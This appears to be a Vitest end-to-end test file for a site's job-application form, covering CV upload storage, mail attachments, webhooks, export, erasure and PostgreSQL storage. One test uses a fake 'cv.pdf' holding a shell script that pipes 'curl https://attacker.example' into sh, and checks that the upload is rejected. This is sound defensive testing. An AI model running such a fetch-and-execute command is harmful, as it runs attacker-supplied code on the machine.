import { existsSync, mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { RunningServer } from '../../tools/spawn-server';
import { readStored } from '../e2e/stored-submissions';
import { cannotRunPostgres, startPostgres, type TestPostgres } from './postgres';
import { eventually, freshDataDir, health, startSite, submissionsCommand, webhookSecret } from './site';
import { mailPart, startSmtpListener, type SmtpListener } from './smtp-listener';
import { applicationFields, docxFile, odtFile, pdfFile, postApplication } from './upload-files';
import { startWebhookReceiver, type WebhookReceiver } from './webhook-receiver';

let site: RunningServer | undefined;
let smtp: SmtpListener | undefined;
let hook: WebhookReceiver | undefined;
let postgres: TestPostgres | undefined;
afterEach(async () => {
  await site?.stop();
  await smtp?.close();
  await hook?.close();
  postgres?.stop();
  site = smtp = hook = postgres = undefined;
});

const notifyEnv = (smtpPort: number, hookUrl: string) => ({
  SMTP_URL: `smtp://forms:mail-secret@127.0.0.1:${smtpPort}`,
  FORM_NOTIFY_EMAIL: 'careers@northstar.example',
  FORM_NOTIFY_FROM: 'Website <forms@northstar.example>',
  FORM_WEBHOOK_URL: hookUrl,
  FORM_WEBHOOK_SECRET: webhookSecret,
});

function attachment(raw: string, type: string): Buffer {
  return Buffer.from(mailPart(raw, type).replace(/\s/g, ''), 'base64');
}

const mode = (path: string) => statSync(path).mode & 0o777;

describe('job applications with a CV, stored in DATA_DIR/uploads', () => {
  it('stores the CV (0600, folder 0700) before answering, mails it attached, hooks its id, exports and erases it', async () => {
    smtp = await startSmtpListener();
    hook = await startWebhookReceiver();
    const dataDir = freshDataDir();
    site = await startSite({ DATA_DIR: dataDir, ...notifyEnv(smtp.port, hook.url) });
    const cv = pdfFile('Ada Lovelace, analyst');
    const response = await postApplication(site.url, applicationFields(), [{ name: 'Ada CV.pdf', content: cv }]);
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe('/thank-you/application');

    // Durable when answered: the record and the file are there now.
    const [record] = readStored(dataDir, 'application').records;
    expect(record.upload).toMatchObject({
      field: 'cv',
      mediaType: 'application/pdf',
      bytes: cv.length,
      name: 'Ada CV.pdf',
    });
    expect(record.fields).toMatchObject({
      name: 'Ada Lovelace',
      job: '/jobs/cloud-solutions-architect',
      cv: record.upload?.id,
    });
    const stored = join(dataDir, 'uploads', record.upload?.id ?? '');
    expect(readFileSync(stored)).toEqual(cv);
    expect(mode(stored)).toBe(0o600);
    expect(mode(join(dataDir, 'uploads'))).toBe(0o700);

    await eventually('the mail and the webhook', () => smtp?.mails.length === 1 && hook?.accepted().length === 1);
    const raw = smtp.mails[0]?.raw ?? '';
    expect(attachment(raw, 'application/pdf')).toEqual(cv);
    expect(mailPart(raw, 'text/plain')).toContain('File: attached to this mail');
    const payload = JSON.parse(hook.accepted()[0]?.body ?? '{}') as { data: { upload: { id: string } } };
    expect(payload.data.upload.id).toBe(record.upload?.id);

    const folder = mkdtempSync(join(tmpdir(), 'cv-export-'));
    const exported = await submissionsCommand({ DATA_DIR: dataDir }, '--form', 'application', '--files', folder);
    expect(exported.status).toBe(0);
    expect(exported.stderr).toContain('1 uploaded file written');
    expect(readFileSync(join(folder, `${record.upload?.id}.pdf`))).toEqual(cv);

    const erased = await submissionsCommand({ DATA_DIR: dataDir }, '--erase', 'ada@example.com');
    expect(erased.stdout).toContain('removed 1 submission');
    expect(erased.stdout).toContain('1 uploaded file');
    expect(existsSync(stored)).toBe(false);
  }, 60_000);

  it("takes DOCX and ODT recognised from their bytes, and refuses a script named .pdf with the visitor's answers", async () => {
    const dataDir = freshDataDir();
    site = await startSite({ DATA_DIR: dataDir });
    for (const [name, content] of [
      ['cv.docx', docxFile()],
      ['cv.odt', odtFile()],
    ] as const) {
      const response = await postApplication(site.url, applicationFields(), [
        { name, content, type: 'application/octet-stream' },
      ]);
      expect(response.status).toBe(303);
    }
    expect(readStored(dataDir, 'application').records.map((record) => record.upload?.mediaType)).toEqual([
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'application/vnd.oasis.opendocument.text',
    ]);

    const script = Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n');
    const refused = await postApplication(site.url, applicationFields('Mallory'), [
      { name: 'cv.pdf', content: script, type: 'application/pdf' },
    ]);
    expect(refused.status).toBe(400);
    const page = await refused.text();
    expect(page).toContain('This file is not a PDF, DOCX or ODT document.');
    expect(page).toContain('Mallory');
    expect(readStored(dataDir, 'application').records).toHaveLength(2);
    expect(readdirSync(join(dataDir, 'uploads')).filter((name) => name !== '.incoming')).toHaveLength(2);
    expect(readdirSync(join(dataDir, 'uploads', '.incoming'))).toEqual([]);

    // The form's script asks for JSON: the problems by field, and on success where to go next
    // (not a 303 its request would follow, fetching the thank-you page for nothing).
    const refusedJson = await postApplication(
      site.url,
      applicationFields('Mallory'),
      [{ name: 'cv.pdf', content: script, type: 'application/pdf' }],
      'application/json',
    );
    expect(refusedJson.status).toBe(400);
    expect(await refusedJson.json()).toEqual({
      problems: [{ name: 'cv', message: expect.stringContaining('This file is not a PDF, DOCX or ODT document.') }],
    });
    const sentJson = await postApplication(
      site.url,
      applicationFields('Ada Lovelace'),
      [{ name: 'cv.odt', content: odtFile() }],
      'application/json',
    );
    expect(sentJson.status).toBe(200);
    expect(sentJson.headers.get('location')).toBeNull();
    expect(await sentJson.json()).toEqual({ next: '/thank-you/application' });
    expect(readStored(dataDir, 'application').records).toHaveLength(3);
  }, 60_000);
});

describe.skipIf(cannotRunPostgres())('job applications with PostgreSQL', () => {
  it('keeps the CV in the database, so a second server mails and exports it, and erase removes it', async () => {
    postgres = await startPostgres();
    smtp = await startSmtpListener();
    hook = await startWebhookReceiver();
    const env = { DATABASE_URL: postgres.url, DATA_DIR: freshDataDir(), ...notifyEnv(smtp.port, hook.url) };
    site = await startSite(env);
    const cv = pdfFile('Grace Hopper');
    const response = await postApplication(site.url, applicationFields('Grace Hopper', 'grace@example.com'), [
      { name: 'grace.pdf', content: cv },
    ]);
    expect(response.status).toBe(303);
    expect((await health(site.url)).store.kind).toBe('postgresql');
    await eventually('the mail', () => smtp?.mails.length === 1);
    expect(attachment(smtp.mails[0]?.raw ?? '', 'application/pdf')).toEqual(cv);
    expect(readdirSync(join(env.DATA_DIR, 'uploads')).filter((name) => name !== '.incoming')).toEqual([]);

    // Another data folder: the file can only come from the database.
    const otherDir = freshDataDir();
    const folder = mkdtempSync(join(tmpdir(), 'cv-export-'));
    const exported = await submissionsCommand(
      { DATABASE_URL: postgres.url, DATA_DIR: otherDir },
      '--form',
      'application',
      '--files',
      folder,
    );
    expect(exported.status).toBe(0);
    const [name] = readdirSync(folder);
    expect(readFileSync(join(folder, name ?? ''))).toEqual(cv);

    const erased = await submissionsCommand(
      { DATABASE_URL: postgres.url, DATA_DIR: otherDir },
      '--erase',
      'grace@example.com',
    );
    expect(erased.stdout).toContain('1 uploaded file');
    const again = await submissionsCommand(
      { DATABASE_URL: postgres.url, DATA_DIR: otherDir },
      '--form',
      'application',
      '--files',
      mkdtempSync(join(tmpdir(), 'cv-export-')),
    );
    expect(again.stderr).toContain('0 uploaded files written');
  }, 90_000);
});
